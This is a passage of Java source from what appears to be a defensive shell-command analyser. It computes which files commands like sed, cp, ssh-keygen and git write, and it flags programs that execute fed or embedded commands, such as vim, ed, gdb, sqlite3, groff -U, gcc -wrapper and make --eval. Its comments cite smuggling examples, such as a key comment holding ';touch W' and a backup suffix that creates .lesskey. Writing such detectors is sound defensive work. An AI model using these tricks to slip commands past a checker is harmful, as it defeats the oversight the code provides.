  static boolean sedEditsInPlace(List<Word> a) {
    for (int i = 0; i < a.size(); i++) {
      Word w = a.get(i);
      String v = w.value();
      if (v.equals("--")) {
        return false;
      }
      if (!v.startsWith("-") || v.equals("-")) {
        continue;
      }
      if (!w.literal() || v.startsWith("--") && Wrappers.longOption(v, "in-place")) {
        return true;
      }
      if (v.startsWith("--")) {
        // --expression/--file/--line-length SCRIPT: the next word is their value.
        if (v.indexOf('=') < 0 && (Wrappers.longOption(v, "expression") || Wrappers.longOption(v, "file")
            || Wrappers.longOption(v, "line-length"))) {
          i++;
        }
        continue;
      }
      for (int j = 1; j < v.length(); j++) {
        char ch = v.charAt(j);
        if (ch == 'i') {
          return true;
        }
        if ("efl".indexOf(ch) >= 0) {
          i += j + 1 < v.length() ? 0 : 1; // -e SCRIPT: the next word is the script
          break;
        }
      }
    }
    return false;
  }

  /**
   * gawk's {@code -i FILE}/{@code --include=FILE}: a source library found by AWKPATH, among them
   * gawk's own {@code inplace} ({@code awk -i inplace PROG FILE} rewrites FILE with PROG's
   * output), which any other library may load too: its operands count as written.
   */
  private static final List<String> AWK_LONG_VALUED = List.of("file", "field-separator", "assign", "exec", "load", "source");

  private static boolean awkIncludes(List<Word> a) {
    for (int i = 0; i < a.size(); i++) {
      Word w = a.get(i);
      String v = w.value();
      if (v.equals("--") || !v.startsWith("-") || v.equals("-")) {
        return false; // the program or the first file: options end
      }
      if (!w.literal() || v.startsWith("--") && Wrappers.longOption(v, "include")) {
        return true;
      }
      if (v.startsWith("--")) {
        // --assign NAME=VALUE, --file F, …: the next word is their value.
        if (v.indexOf('=') < 0 && AWK_LONG_VALUED.stream().anyMatch(o -> Wrappers.longOption(v, o))) {
          i++;
        }
        continue;
      }
      for (int j = 1; j < v.length(); j++) {
        char ch = v.charAt(j);
        if (ch == 'i') {
          return true;
        }
        if ("fFvElexWZ".indexOf(ch) >= 0) {
          i += j + 1 < v.length() ? 0 : 1; // -v NAME=VALUE: the next word is the value
          break;
        }
        if ("dDLop".indexOf(ch) >= 0) {
          break; // -oFILE, -L…: the rest of the bundle is their optional value
        }
      }
    }
    return false;
  }

  /** ssh-keygen's options that take a value (OpenSSH 9.2's getopt string). */
  private static final String SSH_KEYGEN_VALUED = "CDEFIMNOPRVYZabfmnrstwz";

  /**
   * The files ssh-keygen writes under names it derives from a key file's ({@code -f FILE}, or an
   * operand): a new key, or a comment changed ({@code -c}), writes FILE.pub, a public key line
   * ending in the comment as given ({@code -C ';touch W'}); signing ({@code -s CA FILE…}) writes
   * FILE-cert.pub (FILE without its .pub), which keeps the key's comment; {@code -R}/{@code -H}
   * keep the known-hosts file as FILE.old. Without a key file, a new key is ~/.ssh/id_TYPE. A word
   * only known when it runs may be {@code -f} or the file.
   */
  private static List<Word> sshKeygenDerivedNames(List<Word> a) {
    List<Word> keys = new ArrayList<>();
    boolean ended = false;
    for (int i = 0; i < a.size(); i++) {
      Word w = a.get(i);
      String v = w.value();
      if (ended || !v.startsWith("-") || v.equals("-") || v.indexOf(Word.UNKNOWN) >= 0) {
        keys.add(w);
        continue;
      }
      if (v.equals("--")) {
        ended = true;
        continue;
      }
      // getopt: a valued option takes the rest of its bundle, else the next word.
      for (int j = 1; j < v.length(); j++) {
        char ch = v.charAt(j);
        if (SSH_KEYGEN_VALUED.indexOf(ch) >= 0) {
          Word value = j + 1 < v.length() ? suffix(w, j + 1) : i + 1 < a.size() ? a.get(++i) : null;
          if (ch == 'f' && value != null) {
            keys.add(value);
          }
          break;
        }
      }
    }
    if (keys.isEmpty()) {
      return List.of(Word.literal("~/.ssh/id_*", "~/.ssh/id_*"));
    }
    List<Word> out = new ArrayList<>();
    for (Word k : keys) {
      out.add(composed(k, Word.literal(".pub", ".pub")));
      out.add(composed(k, Word.literal(".old", ".old")));
      String v = k.value();
      Word base = !v.endsWith(".pub") ? k : new Word(k.source().endsWith(".pub") ? k.source().substring(0, k.source().length() - 4)
          : v.substring(0, v.length() - 4), v.substring(0, v.length() - 4), k.literal());
      out.add(composed(base, Word.literal("-cert.pub", "-cert.pub")));
    }
    return out;
  }

  /** {@code words} and the backups {@code c} may keep ({@link #backupNames}, the environment's suffix aside). */
  private static List<Word> withBackups(List<Word> words, ShellCommand c) {
    List<Word> backups = backupNames(c, List.of());
    if (backups.isEmpty()) {
      return words;
    }
    List<Word> out = new ArrayList<>(words);
    out.addAll(backups);
    return out;
  }

  /** Of cp, mv, ln and install, the short options that take a value (coreutils 9.1's getopt strings). */
  private static final Map<String, String> BACKUP_WRITER_VALUED = Map.of("cp", "St", "mv", "St", "ln", "St", "install", "Sgmot");

  /** Their long options that take a value as the next word, by any abbreviation getopt_long takes. */
  private static final List<String> BACKUP_WRITER_LONG_VALUED = List.of("suffix", "target-directory", "sparse", "no-preserve",
      "group", "mode", "owner", "strip-program");

  /**
   * The names of the backups a command keeps of the files it replaces, which no word of the text
   * spells. cp, mv, ln and install (coreutils' backupfile) with {@code -b}, {@code --backup[=CONTROL]}
   * or {@code -S SUF}/{@code --suffix=SUF} (which makes backups too) rename an existing destination
   * to DEST + the simple suffix ({@code -S}, else SIMPLE_BACKUP_SUFFIX, one of {@code
   * environment}, else {@code ~}; one holding a {@code /} is {@code ~}) or DEST.~N~ (numbered, by
   * CONTROL or VERSION_CONTROL): {@code cp -b -S sskey y .le} keeps {@code .lesskey}. DEST is the
   * last operand and, as it may be a directory, each source's leaf in it or in {@code -t DIR}.
   * GNU sed's {@code -iSUF}/{@code --in-place=SUF} and perl's {@code -iSUF} keep each input file as
   * FILE + SUF, or as SUF with each {@code *} replaced by FILE. A suffix only known when it runs
   * makes a name computed when it runs ({@link #COMPUTED_NAME}), which may be any file.
   */
  static List<Word> backupNames(ShellCommand c, List<Word> environment) {
    String n = c.name();
    List<Word> a = c.args();
    List<Word> out = new ArrayList<>();
    if (Set.of("sed", "gsed", "perl").contains(n)) {
      Word suffix = inPlaceSuffix(c);
      if (suffix != null) {
        List<Word> inline = n.equals("perl") ? List.of() : ToolScripts.sedSource(a).inline();
        long stars = suffix.value().chars().filter(ch -> ch == '*').count();
        long built = 0;
        for (Word f : operands(c)) {
          long length = suffix.value().length() + Math.max(1, stars) * f.value().length();
          // A name longer than PATH_MAX (4,096 bytes) names no file: not built.
          if (inline.contains(f) || length > 4096) {
            continue;
          }
          if ((built += length) > COMPOSED_NAMES_BUILT) {
            return List.of(COMPUTED_NAME);
          }
          out.add(stars > 0
              ? composed(Word.literal("", ""), new Word(suffix.source(), suffix.value().replace("*", f.value()),
                  suffix.literal() && f.literal()))
              : composed(f, suffix));
        }
      }
      return out;
    }
    String valued = BACKUP_WRITER_VALUED.get(n);
    if (valued == null) {
      return out;
    }
    boolean backup = false;
    Word suffix = null;
    Word directory = null;
    List<Word> ops = new ArrayList<>();
    boolean ended = false;
    for (int i = 0; i < a.size(); i++) {
      Word w = a.get(i);
      String v = w.value();
      if (!ended && v.equals("--")) {
        ended = true;
      } else if (ended || !v.startsWith("-") || v.equals("-")) {
        ops.add(w);
      } else if (v.startsWith("--")) {
        int eq = v.indexOf('=');
        Word value = eq >= 0 ? suffix(w, eq + 1) : null;
        if ((eq < 0 ? v : v.substring(0, eq)).indexOf(Word.UNKNOWN) >= 0) {
          // An option only known when it runs may be --suffix with any value.
          backup = true;
          suffix = UNKNOWN_WORD;
        } else if (Wrappers.longOption(v, "backup")) {
          backup = true;
        } else if (BACKUP_WRITER_LONG_VALUED.stream().anyMatch(o -> Wrappers.longOption(v, o))) {
          if (value == null && i + 1 < a.size()) {
            value = a.get(++i);
          }
          if (Wrappers.longOption(v, "suffix")) {
            backup = true;
            suffix = value;
          } else if (Wrappers.longOption(v, "target-directory")) {
            directory = value;
          }
        }
      } else {
        for (int j = 1; j < v.length(); j++) {
          char ch = v.charAt(j);
          backup |= ch == 'b';
          if (ch == Word.UNKNOWN) {
            backup = true; // letters only known when it runs may be -S with any suffix
            suffix = UNKNOWN_WORD;
            break;
          }
          if (valued.indexOf(ch) >= 0) {
            // getopt: the rest of the bundle is the value, else the next word.
            Word value = j + 1 < v.length() ? suffix(w, j + 1) : i + 1 < a.size() ? a.get(++i) : null;
            if (ch == 'S') {
              backup = true;
              suffix = value;
            } else if (ch == 't') {
              directory = value;
            }
            break;
          }
        }
      }
    }
    if (!backup) {
      return out;
    }
    List<Word> suffixes = new ArrayList<>();
    if (suffix != null) {
      suffixes.add(suffix);
    } else {
      suffixes.addAll(environment);
    }
    suffixes.add(Word.literal("~", "~"));
    suffixes.add(Word.literal(".~[1-9]*~", ".~[1-9]*~")); // numbered backups, as a pattern
    List<Word> named = new ArrayList<>(); // destinations as the text names them
    if (directory == null && !ops.isEmpty()) {
      Word last = ops.get(ops.size() - 1);
      // ln TARGET makes the link under TARGET's leaf in the working directory.
      named.add(ops.size() == 1 && n.equals("ln") ? leafOf(last) : last);
      directory = ops.size() > 1 ? last : null;
      ops = ops.subList(0, ops.size() - 1);
    }
    // Into a directory, each source's destination is DIRECTORY/leaf.
    List<Word> sources = directory == null ? List.of() : ops;
    long built = 0;
    for (int i = 0; i < named.size() + sources.size(); i++) {
      boolean into = i >= named.size();
      Word d = into ? sources.get(i - named.size()) : named.get(i);
      long length = d.value().length() + (into ? directory.value().length() + 1 : 0);
      if ((built += suffixes.size() * length + suffixes.stream().mapToLong(x -> x.value().length()).sum()) > COMPOSED_NAMES_BUILT) {
        return List.of(COMPUTED_NAME);
      }
      if (into) {
        Word leaf = leafOf(d);
        d = new Word(directory.source() + "/" + leaf.source(), directory.value() + "/" + leaf.value(),
            directory.literal() && leaf.literal());
      }
      for (Word x : suffixes) {
        out.add(composed(d, x.value().indexOf('/') >= 0 ? Word.literal("~", "~") : x));
      }
    }
    return out;
  }

  /**
   * How many characters of names {@link #backupNames} and {@link #gitComposedNames} build for one
   * command (a name glued to each of many words); more stand for any name (a name computed when it
   * runs). Everyday lines build a few dozen.
   */
  private static final long COMPOSED_NAMES_BUILT = 1 << 16;

  /** A path's last component, as the word it came from. */
  private static Word leafOf(Word w) {
    String v = Regexes.replaceFirst(w.value(), "/+$", "");
    String s = Regexes.replaceFirst(w.source(), "/+$", "");
    return new Word(s.substring(s.lastIndexOf('/') + 1), v.substring(v.lastIndexOf('/') + 1), w.literal());
  }

  /**
   * {@code name} + {@code suffix}: with a suffix only known when it runs or a name computed when it
   * runs, a name computed when it runs (any name); a name only partly known keeps the known suffix
   * as its end ({@code "$d~"}).
   */
  private static Word composed(Word name, Word suffix) {
    String v = name.value() + suffix.value();
    return !suffix.literal() || !name.literal() && name.source().equals(COMPUTED_NAME.source())
        ? new Word(COMPUTED_NAME.source(), v, false)
        : new Word(name.source() + suffix.source(), v, name.literal());
  }

  /**
   * The backup suffix of sed's or perl's in-place edit, or null: GNU sed's {@code -i[SUF]} in a
   * bundle after flags ({@code -ni.bak}; after {@code e}, {@code f} or {@code l} the rest is their
   * value), {@code --in-place=SUF} by any abbreviation; perl's {@code -i[SUF]} after flags that take
   * no value ({@code -pi.bak}). An empty suffix keeps no backup.
   */
  private static Word inPlaceSuffix(ShellCommand c) {
    boolean perl = c.name().equals("perl");
    for (Word w : c.args()) {
      String v = w.value();
      if (v.equals("--") || perl && !v.startsWith("-")) {
        return null; // perl's first operand is its script or its files
      }
      if (v.startsWith("--")) {
        int eq = v.indexOf('=');
        if (!perl && eq > 0 && Wrappers.longOption(v, "in-place") && eq + 1 < v.length()) {
          return suffix(w, eq + 1);
        }
      } else if (v.startsWith("-") && v.length() > 1) {
        String values = perl ? "IMmeExdDClF0" : "efl";
        for (int j = 1; j < v.length(); j++) {
          char ch = v.charAt(j);
          if (ch == 'i') {
            return j + 1 < v.length() ? suffix(w, j + 1) : null;
          }
          if (ch == Word.UNKNOWN) {
            return UNKNOWN_WORD; // letters only known when it runs may be -i with any suffix
          }
          if (values.indexOf(ch) >= 0) {
            break;
          }
        }
      }
    }
    return null;
  }

  /**
   * The values the text gives SIMPLE_BACKUP_SUFFIX (by assignment, {@code export}, a command's
   * prefix), which cp, mv, ln and install append to a backup's name; an unset value is unknown.
   * More than a few different values count as one only known when it runs (bounds the names built).
   */
  static List<Word> simpleBackupSuffixes(ShellReading r) {
    List<Word> out = new ArrayList<>();
    for (ShellReading.Assignment as : r.assignments()) {
      if (as.variable().equals("SIMPLE_BACKUP_SUFFIX")) {
        Word v = as.value() != null ? as.value() : UNKNOWN_WORD;
        if (out.stream().noneMatch(x -> x.value().equals(v.value()) && x.literal() == v.literal())) {
          out.add(v);
        }
        if (out.size() > 8) {
          return List.of(UNKNOWN_WORD);
        }
      }
    }
    return out;
  }

  /**
   * The names git composes for what it writes: {@code git archive}'s members are the last {@code
   * --prefix} before an {@code --add-virtual-file=PATH:CONTENT} + PATH (a quoted PATH is C-unquoted:
   * any name) and before an {@code --add-file=FILE} + FILE's leaf, and the last {@code --prefix} +
   * each tracked path; {@code git checkout-index --prefix=P} writes P + each path it is given, or
   * each path of the index ({@code -a}, {@code --stdin}). The prefix is glued as given ({@code
   * --prefix=.less} and {@code key} make {@code .lesskey}). The tracked paths are only known when it
   * runs: they count (a name computed when it runs) when the prefix glues to them or is a
   * dot-directory, where programs read their configuration; under a plain directory ({@code
   * --prefix=proj/}) they are the repository's own names. The members reach the disk when the
   * archive is extracted (by a pipe or a file, any extractor), so they count as written by git.
   */
  private static List<Word> gitComposedNames(List<Word> a, String sub) {
    List<Word> out = new ArrayList<>();
    Word prefix = Word.literal("", "");
    List<Word> paths = new ArrayList<>();
    boolean all = false;
    long built = 0;
    for (int i = 0; i < a.size(); i++) {
      Word w = a.get(i);
      String v = w.value();
      // Each word may be glued to the prefix once: past the bound, any name.
      if ((built += prefix.value().length() + v.length()) > COMPOSED_NAMES_BUILT) {
        return List.of(COMPUTED_NAME);
      }
      if (!v.startsWith("-") || v.equals("-")) {
        paths.add(w);
        continue;
      }
      if (!v.startsWith("--") || v.equals("--")) {
        continue;
      }
      // parse-options takes a value glued by = or as the next word.
      int eq = v.indexOf('=');
      Word value = eq >= 0 ? suffix(w, eq + 1) : i + 1 < a.size() ? a.get(i + 1) : Word.literal("", "");
      boolean next = eq < 0;
      if (Wrappers.longOption(v, "prefix")) {
        // A prefix only known when it runs may glue to any path: a name computed when it runs.
        prefix = value.literal() ? value : new Word(COMPUTED_NAME.source(), value.value(), false);
      } else if (sub.equals("archive") && Wrappers.longOption(v, "add-virtual-file")) {
        String path = value.value();
        int colon = path.indexOf(':');
        path = colon < 0 ? path : path.substring(0, colon);
        out.add(path.startsWith("\"") ? new Word(COMPUTED_NAME.source(), prefix.value() + Word.UNKNOWN, false)
            : composed(prefix, new Word(path, path, value.literal())));
      } else if (sub.equals("archive") && Wrappers.longOption(v, "add-file")) {
        out.add(composed(prefix, leafOf(value)));
      } else {
        all |= Wrappers.longOption(v, "all") || Wrappers.longOption(v, "stdin");
        next = false;
      }
      i += next ? 1 : 0;
    }
    all |= sub.equals("archive") || a.stream().anyMatch(w -> Regexes.matches(w.value(), "-[a-z]*a[a-z]*"));
    String p = prefix.value();
    if (p.isEmpty()) {
      return out;
    }
    if (sub.equals("checkout-index")) {
      // Its operands are paths of the index (archive's are the tree and its paths).
      for (Word f : paths) {
        if ((built += p.length() + f.value().length()) > COMPOSED_NAMES_BUILT) {
          return List.of(COMPUTED_NAME);
        }
        out.add(composed(prefix, f));
      }
    }
    boolean dotDirectory = Arrays.stream(Regexes.split(p, "/+")).anyMatch(x -> x.startsWith(".") && !x.equals(".") && !x.equals(".."));
    if (all && (!prefix.literal() || !p.endsWith("/") || dotDirectory)) {
      out.add(new Word(COMPUTED_NAME.source(), p + Word.UNKNOWN, false));
    }
    return out;
  }

  /**
   * The paths {@code git update-index --cacheinfo} puts into the index (git 2.39's
   * cacheinfo_callback): {@code MODE,OBJECT,PATH} as one word, PATH all after the object's comma,
   * else the three words {@code MODE OBJECT PATH} ({@code --cacheinfo=…} is refused). A mode or
   * object only known when it runs hides where PATH starts (a name computed when it runs, with the
   * known end); a first word wholly only known when it runs may be either form, and an option only
   * known when it runs may be {@code --cacheinfo}.
   */
  private static List<Word> gitCacheinfoPaths(List<Word> a) {
    List<Word> out = new ArrayList<>();
    for (int i = 0; i + 1 < a.size(); i++) {
      String v = a.get(i).value();
      if (v.equals("--")) {
        break;
      }
      boolean unknownOption = !v.isEmpty() && v.charAt(0) == Word.UNKNOWN || v.startsWith("-") && v.indexOf(Word.UNKNOWN) >= 0;
      if (!unknownOption && !(v.length() > 3 && Wrappers.longOption(v, "cacheinfo"))) {
        continue;
      }
      Word info = a.get(i + 1);
      String iv = info.value();
      int first = iv.indexOf(',');
      int second = first < 0 ? -1 : iv.indexOf(',', first + 1);
      int unknown = iv.indexOf(Word.UNKNOWN);
      if (second >= 0 && (unknown < 0 || unknown > second)) {
        out.add(suffix(info, second + 1));
      } else if (unknown >= 0) {
        out.add(new Word(COMPUTED_NAME.source(), iv.substring(iv.lastIndexOf(Word.UNKNOWN)), false));
      }
      if ((first < 0 || unknown == 0) && i + 3 < a.size()) {
        out.add(a.get(i + 3));
      }
    }
    return out;
  }

  /** git's own configuration files: what runs from them is judged by their keys ({@link GitFiles#gitConfigWrites}). */
  private static final Pattern GIT_OWN_CONFIG = Pattern.compile("(?s)(.*/)?(\\.gitconfig|\\.git/config|\\.config/git/config"
      + "|config\\.worktree)|/etc/gitconfig");

  /**
   * The file {@code git config --file FILE} writes ({@code -f FILE}, {@code -fFILE} also after
   * other short options in a bundle, {@code --file=FILE} by any abbreviation): an ini file whose
   * {@code <TAB>KEY = VALUE} lines a shell runs as commands ({@code git config -f ks a.touch W}
   * gives {@code [a]} and {@code touch = W}). None when it only reads ({@code --get…}, {@code
   * -l}/{@code --list}, before the first operand, or newer git's {@code get}/{@code list}), nor for
   * {@link #GIT_OWN_CONFIG}. An option only known when it runs may be {@code --file}, naming any later word.
   */
  private static List<Word> gitConfigFileWritten(List<Word> a) {
    List<Word> files = new ArrayList<>();
    boolean reads = false;
    boolean operand = false;
    for (int i = 0; i < a.size(); i++) {
      Word w = a.get(i);
      String v = w.value();
      if (!v.startsWith("-") || v.equals("-")) {
        if (!operand && Regexes.matches(v, "get|list")) {
          reads = true;
        }
        // git 2.39's options end at the first operand: one only known when it runs before it may be --file.
        if (!operand && v.indexOf(Word.UNKNOWN) == 0) {
          files.addAll(a.subList(i, a.size()));
          break;
        }
        operand = true;
        continue;
      }
      if (v.indexOf(Word.UNKNOWN) >= 0) {
        files.addAll(a.subList(i, a.size()));
        break;
      }
      if (v.startsWith("--")) {
        int eq = v.indexOf('=');
        if (v.length() > 3 && Wrappers.longOption(v, "file")) {
          files.add(eq >= 0 ? suffix(w, eq + 1) : i + 1 < a.size() ? a.get(++i) : Word.literal("", ""));
        } else if (!operand && (v.startsWith("--get") || v.length() > 3 && Wrappers.longOption(v, "list"))) {
          reads = true;
        }
        continue;
      }
      // Short options: -f FILE, -t TYPE take a value (attached or the next word); -l lists.
      for (int j = 1; j < v.length(); j++) {
        char ch = v.charAt(j);
        if (ch == 'f' || ch == 't') {
          Word value = j + 1 < v.length() ? suffix(w, j + 1) : i + 1 < a.size() ? a.get(++i) : Word.literal("", "");
          if (ch == 'f') {
            files.add(value);
          }
          break;
        }
        reads |= ch == 'l' && !operand;
      }
    }
    if (reads) {
      return List.of();
    }
    return files.stream().filter(f -> f.value().indexOf(Word.UNKNOWN) >= 0 || !GIT_OWN_CONFIG.matcher(normalize(f.value())).matches())
        .toList();
  }

  /**
   * tar's old-style options: a first argument without a dash is a bundle of short options whose
   * values are the next words in order ({@code tar cIf CMD a.tar}: {@code I} takes CMD). Its
   * {@code I} (--use-compress-program) and {@code F} (--info-script) run a command, as dashed; a
   * bundle only known when it runs may hold them.
   */
  private static boolean tarBundle(ShellCommand c) {
    if (c.args().isEmpty()) {
      return false;
    }
    String v = c.args().get(0).value();
    return !v.startsWith("-") && (v.indexOf('I') >= 0 || v.indexOf('F') >= 0 || v.indexOf(Word.UNKNOWN) >= 0);
  }

  /**
   * A vim {@code +CMD} that only places the cursor or ends the session: {@code +}, {@code +N},
   * {@code +$}, a search {@code +/pat} or {@code +?pat} with no second delimiter, bar or backslash
   * (after the closing delimiter of an address Ex takes a command), and a bare {@code q}/{@code
   * wq}/{@code x}/{@code w} and their long forms.
   */
  private static final String VIM_HARMLESS_START = "\\+([0-9]*|\\$|/[^/|\\\\\n]*|\\?[^?|\\\\\n]*"
      + "|q|qa|qall|quit|quita|quitall|wq|wqa|wqall|x|xa|xall|xit|exi|exit|w|wa|wall|write|up|update)";

  /** vim under its names (Debian's {@code editor} is vim unless changed: read it as vim). */
  private static final Set<String> VIM_NAMES = Wrappers.VIM_NAMES;

  /**
   * Programs that run the commands fed on their standard input or in a startup file named as a
   * descriptor, when what feeds them is not the person at the terminal: vim reads its keys from a
   * non-terminal input ({@code :!CMD}) and in Ex mode ({@code -e}, {@code ex}) Ex commands
   * ({@code !CMD}); {@code vim -S /dev/stdin}, {@code -u /dev/stdin}, {@code -s} (keys) from a
   * descriptor; {@code ed} ({@code !CMD}); gdb without {@code --batch} ({@code shell CMD});
   * sqlite3 without SQL in its arguments ({@code .shell CMD}), or {@code -init} from a descriptor.
   */
  private static boolean commandsFromInput(ShellCommand c) {
    // A file on disk redirected to it is read as a script file given by name is (bash < script.sh).
    return commandsFromInput(c, c.inputFromCommand() || c.stdin() == ShellCommand.Stdin.TEXT);
  }

  /** As {@link #commandsFromInput(ShellCommand)}, with {@code fed} saying whether its input is a script. */
  static boolean commandsFromInput(ShellCommand c, boolean fed) {
    String n = c.name();
    List<String> a = c.argValues();
    if (VIM_NAMES.contains(n)) {
      // vim - reads the text to edit from its input (and keys from the terminal), except in Ex mode.
      boolean ex = n.equals("ex") || a.stream().anyMatch(v -> Regexes.matches(v, "-[A-Za-z]*[eE][A-Za-z]*"));
      if (fed && (ex || !a.contains("-"))) {
        return true;
      }
      for (int i = 0; i < c.args().size(); i++) {
        String v = a.get(i);
        if (Regexes.matches(v, "-[SuUs]") && i + 1 < a.size() && !Interpreters.regularPath(c.args().get(i + 1))
            || Regexes.matches(v, "-[SuU].+") && !Interpreters.regularPath(new Word(v.substring(2), v.substring(2), c.args().get(i).literal()))) {
          return true;
        }
      }
      return false;
    }
    if (n.equals("ed")) {
      return fed;
    }
    if (n.equals("jdb")) {
      return fed && CommandPrompts.jdbPrompt(c); // print Runtime.getRuntime().exec(…)
    }
    if (n.equals("gpg-connect-agent")) {
      return fed && CommandPrompts.connectAgentReadsInput(c); // /definqprog NAME PROG
    }
    if (Set.of("gdb", "gdb-multiarch", "cgdb").contains(n)) {
      return fed && a.stream().noneMatch(v -> Regexes.matches(v, "--?(batch|batch-silent|version|help|configuration)"));
    }
    if (n.equals("sqlite3") || n.equals("sqlite")) {
      return sqliteReadsInput(c, fed);
    }
    if (PsqlClient.NAMES.contains(n)) {
      return fed && PsqlClient.readsInput(c); // \! CMD in what the text feeds it
    }
    if (Consoles.isPrompt(Consoles.read(c))) {
      return fed; // a console's or client's prompt fed a file the text writes (attack 17cs)
    }
    return false;
  }

  /**
   * sqlite3 reads SQL and dot commands ({@code .shell}) from its input unless SQL follows the
   * database in its arguments, and from an {@code -init} file (a descriptor by name is fed text).
   * A word only known when it runs might be the SQL or nothing: fed, that fails closed.
   */
  private static boolean sqliteReadsInput(ShellCommand c, boolean fed) {
    List<Word> a = c.args();
    int operands = 0;
    for (int i = 0; i < a.size(); i++) {
      String v = a.get(i).value();
      if (!a.get(i).literal()) {
        return fed;
      }
      String o = v.startsWith("--") ? v.substring(1) : v; // sqlite3 takes --opt for -opt
      if (o.equals("-init")) {
        if (i + 1 < a.size() && !Interpreters.regularPath(a.get(i + 1))) {
          return true;
        }
        i++;
      } else if (o.startsWith("-") && o.length() > 1 && SQLITE_ONE_VALUE.contains(o.substring(1))) {
        i++;
      } else if (o.startsWith("-") && o.length() > 1 && SQLITE_TWO_VALUES.contains(o.substring(1))) {
        i += 2;
      } else if (Regexes.matches(o, "-(version|help|A.*)")) {
        return false;
      } else if (o.startsWith("-") && o.length() > 1 && !SQLITE_FLAGS.contains(o.substring(1))) {
        // An option this table does not know may take the next word as its value (-threadsafe N
        // was one): the database and the SQL are then not where the count puts them.
        return fed;
      } else if (!o.startsWith("-")) {
        operands++;
      }
    }
    return fed && operands < 2;
  }

  /**
   * groff and the programs of its family that take {@code -U}: pic's unsafe mode runs {@code sh {
   * CMD }}; grog ({@code --run}), groffer, its roff2* front ends, pdfroff and mmroff hand their
   * options to groff.
   */
  private static final Set<String> ROFF_NAMES = Set.of("groff", "nroff", "troff", "gtroff", "gnroff", "gtbl-troff", "pic",
      "gpic", "grog", "groffer", "roff2dvi", "roff2html", "roff2pdf", "roff2ps", "roff2text", "roff2x", "pdfroff", "mmroff");

  /**
   * groff, nroff and troff in unsafe mode ({@code -U}) run {@code .sy CMD}, {@code .pso CMD} and
   * {@code .pi CMD} requests of the text they format, from a pipe, a here-string or a file alike.
   * getopt permutes, so {@code -U} counts anywhere, also inside a bundle ({@code -UTutf8}): any
   * short-option word holding a {@code U} fails closed, as does a word only known when it runs.
   */
  private static boolean roffUnsafe(ShellCommand c) {
    if (!ROFF_NAMES.contains(c.name())) {
      return false;
    }
    return c.args().stream().anyMatch(w -> Regexes.matches(w.value(), "(?s)-[^-].*") && w.value().indexOf('U') > 0
        || !w.literal() && !w.value().isEmpty() && w.value().charAt(0) == Word.UNKNOWN);
  }

  /**
   * ed takes a file operand that starts with {@code !} as a shell command whose output it reads
   * ({@code ed '!CMD'}); the prompt of {@code -p}/{@code --prompt} is a value, not a file. An
   * operand only known when it runs may be one.
   */
  private static boolean edShellFile(ShellCommand c) {
    if (!c.name().equals("ed")) {
      return false;
    }
    List<Word> a = c.args();
    boolean options = true;
    for (int i = 0; i < a.size(); i++) {
      String v = a.get(i).value();
      if (options && v.equals("--")) {
        options = false;
        continue;
      }
      if (options && v.startsWith("--") && !v.contains("=")) {
        if (v.length() >= 3 && "--prompt".startsWith(v)) {
          i++;
        }
        continue;
      }
      if (options && v.startsWith("-") && v.length() > 1) {
        int p = v.indexOf('p');
        if (p > 0 && p == v.length() - 1 && !v.startsWith("--")) {
          i++;
        }
        continue;
      }
      if (v.startsWith("!") || !a.get(i).literal() && !v.isEmpty() && v.charAt(0) == Word.UNKNOWN) {
        return true;
      }
    }
    return false;
  }

  /**
   * The gcc and clang drivers run the programs of a compile (cc1, as, ld) under {@code -wrapper
   * PROG,ARGS} ({@code sh,-c,CMD}), load code into the compiler with {@code -fplugin=}/{@code
   * -fpass-plugin=}, take the programs themselves from a directory ({@code -B DIR}, {@code
   * --exec-prefix}), a spec file ({@code -specs=}, which names the programs) or a path ({@code
   * --ld-path=}, {@code -fuse-ld=PATH}; {@code --prefix} is {@code -B}), and load a plugin into the linker ({@code -Wl,-plugin,LIB}); options in a file ({@code @FILE}, clang's {@code --config}) are only known when
   * it runs and may be any of these. An ordinary compile ({@code gcc -O2 -o x x.c}) is none.
   */
  private static final Pattern COMPILER_DRIVER = Pattern.compile(
      "([A-Za-z0-9_.]+-)*(gcc|g\\+\\+|cc|c\\+\\+|cpp|c89|c99|clang|clang\\+\\+|clang-cpp|gfortran|gccgo)(-[0-9.]+)?");

  private static boolean compilerDriverRuns(ShellCommand c) {
    if (!COMPILER_DRIVER.matcher(c.name()).matches()) {
      return false;
    }
    return c.args().stream().anyMatch(w -> {
      String v = w.value();
      // gcc takes its long options by any unique abbreviation (--pref DIR is --prefix, -B);
      // -fcompare-debug=OPTS compiles a second time with OPTS (-B DIR among them).
      return v.startsWith("@") || Regexes.matches(v, "(?s)--?(wrapper|specs|exec-prefix|ld-path|config|gcc-toolchain|gcc-install-dir)"
          + "([= ].*)?") || v.startsWith("-B") || v.startsWith("-fplugin") || v.startsWith("-fpass-plugin") || v.equals("-load")
          || Wrappers.longOption(v, "prefix") || Wrappers.longOption(v, "specs") || Wrappers.longOption(v, "for-linker")
          && v.contains("plugin") || Regexes.matches(v, "(?s)-fcompare-debug=.*") && !Regexes.matches(v, "-fcompare-debug=(-g[a-z0-9-]*)?")
          || Regexes.matches(v, "(?s)-fuse-ld=.*/.*|-Wl,.*plugin.*|--?plugin.*")
          || !w.literal() && !v.isEmpty() && v.charAt(0) == Word.UNKNOWN;
    });
  }

  /**
   * make runs make code given inline: {@code --eval}/{@code -E} (its {@code $(shell …)} and
   * recipes), a makefile that is no file named literally ({@code -f -} with a here-string, {@code
   * -f /dev/stdin}), and a variable on the command line that runs or expands code at once ({@code
   * X!=CMD}, {@code X:=$(shell CMD)}, {@code $(shell CMD)=1}) or carries shell code into the recipes that use it.
   */
  private static boolean makeGivenCode(ShellCommand c) {
    if (!Set.of("make", "gmake", "remake").contains(c.name())) {
      return false;
    }
    List<Word> a = c.args();
    boolean options = true;
    for (int i = 0; i < a.size(); i++) {
      Word w = a.get(i);
      String v = w.value();
      if (v.equals("--")) {
        options = false;
        continue;
      }
      if (options && v.startsWith("--")) {
        int eq = v.indexOf('=');
        String name = eq < 0 ? v : v.substring(0, eq);
        if (name.length() >= 4 && "--eval".startsWith(name)) {
          return true;
        }
        if (name.length() >= 3 && "--file".startsWith(name) || name.length() >= 5 && "--makefile".startsWith(name)) {
          Word f = eq >= 0 ? new Word(v.substring(eq + 1), v.substring(eq + 1), w.literal())
              : i + 1 < a.size() ? a.get(++i) : new Word("", "", true);
          if (!Interpreters.regularPath(f)) {
            return true;
          }
        }
        continue;
      }
      if (options && v.startsWith("-") && v.length() > 1) {
        for (int j = 1; j < v.length(); j++) {
          char ch = v.charAt(j);
          if (ch == 'E') {
            return true;
          }
          if (ch == 'f' || "CIoW".indexOf(ch) >= 0) {
            boolean attached = j + 1 < v.length();
